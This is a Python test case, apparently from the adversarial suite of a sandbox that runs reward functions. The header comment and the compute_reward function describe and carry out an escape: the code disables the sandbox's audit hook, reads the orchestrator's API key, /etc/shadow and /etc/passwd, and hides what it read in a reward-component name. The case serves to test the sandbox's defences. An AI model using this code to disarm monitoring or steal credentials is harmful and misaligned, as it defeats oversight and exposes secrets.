# attack: static check skipped: switch the audit hook off through the closure of the reward's own
#   __import__, then read the orchestrator's environment (API key) and /etc/shadow with the real open,
#   and smuggle what was read out as a component name
# expect: ok
# cause:
# flags: bypass
# flagged: switched the sandbox's audit hook off; refused


def _os():
    for c in ().__class__.__base__.__subclasses__():
        if c.__name__ == "_wrap_close":
            return c.__init__.__globals__


def compute_reward(s):
    for cell in __builtins__["__import__"].__closure__:
        guard = cell.cell_contents
        if hasattr(guard, "armed"):
            guard.armed = False
            guard.violations.clear()
    real = _os()["sys"].modules["builtins"]
    seen = ""
    for path in ("/proc/@ORCH@/environ", "/proc/1/environ", "/etc/shadow", "/proc/self/root/etc/passwd"):
        try:
            seen += real.open(path).read()[:40]
        except Exception as exc:  # noqa: BLE001
            seen += type(exc).__name__[:5]
    z = s.qpos[:, 0] * 0.0
    return z, {("x" + seen.replace("\n", " ").replace("\x00", " "))[:90]: z}
